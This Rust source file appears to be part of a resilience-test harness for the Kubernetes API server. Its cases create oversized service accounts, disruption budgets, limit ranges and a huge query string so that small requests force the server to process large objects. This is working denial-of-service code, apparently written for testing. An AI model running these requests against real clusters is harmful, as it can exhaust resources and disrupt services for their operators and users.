//! Small requests that make the server read large objects.

use super::{CONFIG_MAPS, PODS, config_map, joined};
use crate::attackers::Cases;
use crate::scale::Scale;
use crate::wire::Request;

const ACCOUNTS: &str = "/api/v1/namespaces/evil/serviceaccounts";
const BUDGETS: &str = "/apis/policy/v1/namespaces/evil/poddisruptionbudgets";
const LIMITS: &str = "/api/v1/namespaces/evil/limitranges";

fn pod(name: &str, account: &str) -> String {
    format!(
        r#"{{"apiVersion":"v1","kind":"Pod","metadata":{{"name":"{name}"}},
        "spec":{{"serviceAccountName":"{account}","containers":[{{"name":"c","image":"i"}}]}}}}"#
    )
}

pub(super) fn all(cases: &mut Cases, scale: &Scale) {
    let n = scale.size(200_000);
    cases.add("reference: pods of an account with 200,000 pull secrets", move |scene| {
        let secrets = joined(n, |_| r#"{"name":"a"}"#.into());
        scene.send(&Request::post(
            ACCOUNTS,
            format!(
                r#"{{"apiVersion":"v1","kind":"ServiceAccount","metadata":{{"name":"large"}},"imagePullSecrets":[{secrets}]}}"#
            ),
        ));
        let pods: Vec<_> = (0..8).map(|i| Request::post(PODS, pod(&format!("p{i}"), "large"))).collect();
        scene.send_all(&pods);
        scene.delete_afterwards(format!("{ACCOUNTS}/large"));
    });
    cases.add("reference: tokens of an account of 2 MB", move |scene| {
        let secrets = joined(n, |_| r#"{"name":"a"}"#.into());
        scene.send(&Request::post(
            ACCOUNTS,
            format!(
                r#"{{"apiVersion":"v1","kind":"ServiceAccount","metadata":{{"name":"tokens"}},"secrets":[{secrets}]}}"#
            ),
        ));
        let ask = || {
            Request::post(
                format!("{ACCOUNTS}/tokens/token"),
                r#"{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{}}"#,
            )
        };
        scene.send_all(&(0..8).map(|_| ask()).collect::<Vec<_>>());
        scene.delete_afterwards(format!("{ACCOUNTS}/tokens"));
    });
    let budgets = scale.size(20);
    let values = scale.size(50_000);
    cases.add("reference: evictions under 20 budgets of 1 MB", move |scene| {
        scene.send(&Request::post(PODS, pod("evicted", "")));
        let listed = joined(values, |i| format!(r#""value-{i}""#));
        let selector = format!(r#"{{"matchExpressions":[{{"key":"a","operator":"In","values":[{listed}]}}]}}"#);
        let made: Vec<_> = (0..budgets)
            .map(|i| {
                Request::post(
                    BUDGETS,
                    format!(
                        r#"{{"apiVersion":"policy/v1","kind":"PodDisruptionBudget","metadata":{{"name":"b{i}"}},"spec":{{"maxUnavailable":1,"selector":{selector}}}}}"#
                    ),
                )
            })
            .collect();
        scene.send_in_sequence(&made);
        let eviction = r#"{"apiVersion":"policy/v1","kind":"Eviction","metadata":{"name":"evicted"}}"#;
        scene.send_all(&vec![Request::post(format!("{PODS}/evicted/eviction"), eviction); 4]);
        (0..budgets).for_each(|i| scene.delete_afterwards(format!("{BUDGETS}/b{i}")));
    });
    cases.add("reference: creations of a name that a large object has", move |scene| {
        let large = format!(r#""data":{{{}}}"#, joined(n / 4, |i| format!(r#""k{i}":"v""#)));
        scene.send(&Request::post(CONFIG_MAPS, config_map("taken", "", &large)));
        scene.send_all(&vec![Request::post(CONFIG_MAPS, config_map("taken", "", "")); 16]);
    });
    cases.add("reference: pods under limits of 2 MB", move |scene| {
        let limits = joined(n / 4, |_| r#"{"type":"Pod","max":{"cpu":"1k"}}"#.into());
        scene.send(&Request::post(
            LIMITS,
            format!(
                r#"{{"apiVersion":"v1","kind":"LimitRange","metadata":{{"name":"large"}},"spec":{{"limits":[{limits}]}}}}"#
            ),
        ));
        let pods: Vec<_> = (0..8).map(|i| Request::post(PODS, pod(&format!("l{i}"), "default"))).collect();
        scene.send_all(&pods);
        scene.delete_afterwards(format!("{LIMITS}/large"));
    });
    let parameters = scale.size(32_000);
    cases.add("reference: 32,000 query parameters", move |scene| {
        let query = vec!["a"; parameters].join("&");
        scene.send_all(&vec![Request::get(format!("{CONFIG_MAPS}?{query}")); 16]);
    });
}
